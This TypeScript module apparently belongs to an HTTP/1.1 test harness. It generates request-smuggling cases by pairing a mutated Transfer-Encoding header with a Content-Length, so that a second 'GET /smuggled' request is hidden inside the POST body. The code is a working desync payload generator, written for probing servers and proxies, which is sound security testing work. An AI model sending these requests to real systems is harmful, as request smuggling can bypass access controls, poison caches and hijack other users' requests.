/**
 * h1-smuggler: one mutated Transfer-Encoding line each, put into a POST that also has a Content-Length. The body is whole for both readings, and
 * what the length covers beyond the last chunk is a request of its own: who reads chunks and goes on executes it.
 */
import { bytesOf, textField } from '../../data.ts';
import { type Http1Case, hostOf } from '../case.ts';
import { judge } from '../judge.ts';
import { step } from '../observe.ts';

export const SET = 'h1-smuggler';

export function casesOf(list: readonly Record<string, unknown>[], from: number): Http1Case[] {
  return list.map((entry, n) => {
    const host = hostOf(from + n);
    const gadget = bytesOf(textField(entry, 'gadget_latin1'));
    const body = `0\r\n\r\nGET /smuggled?cb=${from + n} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
    const bytes = Buffer.concat([
      Buffer.from(`POST /?cb=${from + n} HTTP/1.1\r\n`),
      gadget,
      Buffer.from(
        `\r\nHost: ${host}\r\nContent-type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
      ),
    ]);
    return { set: SET, id: textField(entry, 'id'), steps: [step(bytes)], judge: (seen) => judge('either', seen) };
  });
}
